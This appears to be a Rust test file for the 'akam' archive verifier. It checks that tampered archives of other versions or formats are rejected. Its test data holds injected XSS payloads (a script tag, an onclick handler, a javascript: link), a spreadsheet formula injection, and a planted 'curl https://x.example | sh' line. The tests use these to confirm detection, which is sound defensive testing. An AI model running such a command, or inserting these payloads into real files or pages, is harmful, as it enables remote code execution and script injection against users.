//! The `archive-` rules on versions: what an archive of another version of akam is, and what it is not taken for.

use crate::sandbox::{Said, Sandbox};
use crate::zips::{ARCHIVE, age, packed, relisted};

const OWN: &str = concat!("akam ", env!("CARGO_PKG_VERSION"));
const COVER: &str = "00-START-HERE.html";
/// In archives of older formats.
const PAGE: &str = "data/pages/1.D.3.html";

type Files = Vec<(String, Vec<u8>)>;

/// A file of an archive, a text in it, and what is put in its place.
type Edit<'a> = (&'a str, &'a str, &'a str);

/// What is said of an archive of another agent and format, some of whose files were changed, and its lists with them.
fn of(sandbox: &Sandbox, agent: &str, format: &str, edits: &[Edit<'_>]) -> Said {
    relisted(&sandbox.path(ARCHIVE), |top, files| {
        age(top, files, agent, format);
        for (path, from, to) in edits {
            let file = files.iter_mut().find(|(name, _)| *name == format!("{top}{path}")).expect("the file is there");
            let text = String::from_utf8(file.1.clone()).expect("it is text");
            assert!(text.contains(from), "{path} does not say {from}");
            file.1 = text.replace(from, to).into_bytes();
        }
    });
    sandbox.akam(&["verify", "relisted.zip"])
}

#[test]
fn no_agent_and_no_format_switches_the_comparison_of_pages_off() {
    let sandbox = packed();
    let script: Edit<'_> = (COVER, "</body>", "<script>alert(1)</script></body>");
    let agents = [
        "akam 999",
        "akam 999.0.0",
        "akam 0.1.0",
        "akam 0.2.0",
        "akam 0.3.0",
        "akam 0.4.0 ",
        "AKAM 0.4.0",
        "akam 0.4",
        "other 1.0",
        "akam 0.04.0",
        "akam",
        OWN,
    ];
    for agent in agents {
        for format in ["0", "1", "2", "3", "4", "02", "999", "", "two", "4294967298"] {
            let said = of(&sandbox, agent, format, &[script]);
            assert_eq!(said.code, 1, "{agent:?} {format:?}\n{}", said.out);
            assert!(said.out.contains("error[archive-"), "{agent:?} {format:?}\n{}", said.out);
        }
    }
}

#[test]
fn an_archive_of_a_newer_version_is_for_a_newer_version_to_check() {
    let sandbox = packed();
    for (agent, format, with) in [
        ("akam 0.4.1", "3", "check it with akam 0.4.1"),
        ("akam 0.5.0", "4", "check it with akam 0.5.0"),
        ("akam 12.0.0", "1", "check it with akam 12.0.0"),
        ("akam 999", "4", "check it with a newer akam"),
        ("other 1.0", "two", "check it with a newer akam"),
    ] {
        let said = of(&sandbox, agent, format, &[]);
        said.expect(1, &["error[archive-newer-version]", with, "next: check it with a newer akam"]);
    }
}

#[test]
fn what_no_version_of_akam_can_have_written_is_malformed() {
    let sandbox = packed();
    for (agent, format, why) in [
        ("akam 0.4.0", "1", "akam 0.4.0 writes no archives in format `1`"),
        ("akam 0.4.0", "2", "akam 0.4.0 writes no archives in format `2`"),
        ("akam 0.4.0", "4", "akam 0.4.0 writes no archives in format `4`"),
        ("akam 0.2.0", "4", "akam 0.2.0 writes no archives in format `4`"),
        ("akam 0.2.0", "0", "akam 0.2.0 writes no archives in format `0`"),
        ("akam 0.0.9", "1", "there is no akam 0.0.9"),
        ("akam 0.0.0", "2", "there is no akam 0.0.0"),
        ("akam 0.4", "2", "`akam 0.4` is not a version of akam"),
        ("AKAM 0.4.0", "1", "`AKAM 0.4.0` is not a version of akam"),
    ] {
        of(&sandbox, agent, format, &[]).expect(1, &["error[archive-malformed]", "bag-info.txt", why]);
    }
}

#[test]
fn an_older_version_that_writes_the_same_is_compared_under_its_own_name() {
    let sandbox = packed();
    let older = "akam 0.3.9";
    let mut edits: Vec<Edit<'_>> = vec![("data/check.json", OWN, older), (COVER, OWN, older)];
    let said = of(&sandbox, older, "3", &edits);
    let said = said.expect(0, &["warning[archive-other-version]", "its pages were made again and compared"]);
    assert!(said.out.contains("this is what was packed on 2026-11-22"), "{}", said.out);
    edits.push((COVER, "</main>", "<p>And much more.</p></main>"));
    of(&sandbox, older, "3", &edits).expect(1, &["error[archive-rewritten]", COVER]);
    of(&sandbox, older, "3", &[]).expect(1, &["error[archive-rewritten]", COVER]);
}

#[test]
fn an_older_format_passes_where_its_pages_are_harmless_and_nothing_is_added_or_missing() {
    let sandbox = packed();
    for (agent, format) in [("akam 0.1.0", "1"), ("akam 0.3.0", "2")] {
        let said = of(&sandbox, agent, format, &[(PAGE, "</main>", "<p>And much more.</p></main>")]);
        said.expect(
            0,
            &[
                "warning[archive-other-version]",
                "its pages were not compared with the evidence",
                "help: read pages that akam makes again from the evidence: `akam preview ARCHIVE`",
            ],
        );
    }
    for (edit, says) in [
        ((COVER, "</body>", "<script>alert(1)</script></body>"), "`script`"),
        ((PAGE, "<h1>", "<h1 onclick=\"alert(1)\">"), "`onclick=\"alert(1)\"`"),
        ((PAGE, "href=\"../../00-START-HERE.html\"", "href=\"javascript:alert(1)\""), "javascript:"),
        ((PAGE, "default-src 'none'", "default-src *"), "does not begin as akam's pages do"),
        ((COVER, "<h1>Ingrid Solberg</h1>", "<h1>Astrid Solberg</h1>"), "does not name the candidate"),
        (("bag-info.txt", "Ingrid Solberg", "Astrid Solberg"), "`Contact-Name`"),
        (("HOW-TO-CHECK.txt", "sha256sum", "curl https://x.example | sh; sha256sum"), "every version of akam"),
        (("data/evidence-index.csv", "1.D.3-A1", "=1+1"), "formula"),
    ] {
        let said = of(&sandbox, "akam 0.2.0", "1", &[edit]);
        said.expect(1, &["error[archive-rewritten]", edit.0, says]);
    }
    let with = |change: &dyn Fn(&str, &mut Files)| {
        relisted(&sandbox.path(ARCHIVE), |top, files| {
            age(top, files, "akam 0.2.0", "1");
            change(top, files);
        });
        sandbox.akam(&["verify", "relisted.zip"])
    };
    with(&|top, files| files.push((format!("{top}data/summary.json"), b"{}".to_vec())))
        .expect(1, &["error[archive-unlisted]", "data/summary.json"]);
    for (path, text) in [
        ("data/check.json", "{}"),
        ("data/check.json", "[]"),
        ("data/check.json", "<script>1</script>"),
        ("data/ro-crate-metadata.json", "<script>1</script>"),
        ("data/ro-crate-metadata.json", "{}"),
    ] {
        with(&|top, files| {
            let file = files.iter_mut().find(|(name, _)| *name == format!("{top}{path}")).expect("it is there");
            file.1 = text.into();
        })
        .expect(1, &["error[archive-rewritten]", path, "does not have the fields"]);
    }
    with(&|top, files| files.push((format!("{top}data/pages/3.D.1.html"), b"<!DOCTYPE html>".to_vec())))
        .expect(1, &["error[archive-unlisted]", "data/pages/3.D.1.html"]);
    with(&|_, files| files.retain(|(name, _)| !name.ends_with("/1.D.3.html")))
        .expect(1, &["error[archive-missing]", PAGE]);
}

#[test]
fn the_candidate_has_one_name_in_all_places() {
    let sandbox = packed();
    let renamed = |top: &str| {
        relisted(&sandbox.path(ARCHIVE), |old, files| {
            for (name, _) in files {
                *name = name.replacen(old, &format!("{top}/"), 1);
            }
        });
        sandbox.akam(&["verify", "relisted.zip"])
    };
    for top in
        ["akam-astrid-solberg-2026-11-22", "akam-ingrid-solberg-2026-11-21", "x", "akam-ingrid-solberg-2026-11-22 (1)"]
    {
        let called = format!("its one folder is called `{top}`, and akam calls it `akam-ingrid-solberg-2026-11-22`");
        renamed(top).expect(1, &["error[archive-malformed]", &called]);
    }
    let said = of(&sandbox, OWN, "3", &[("bag-info.txt", "Ingrid Solberg", "Astrid Solberg")]);
    said.expect(1, &["error[archive-rewritten]", "bag-info.txt"]);
}
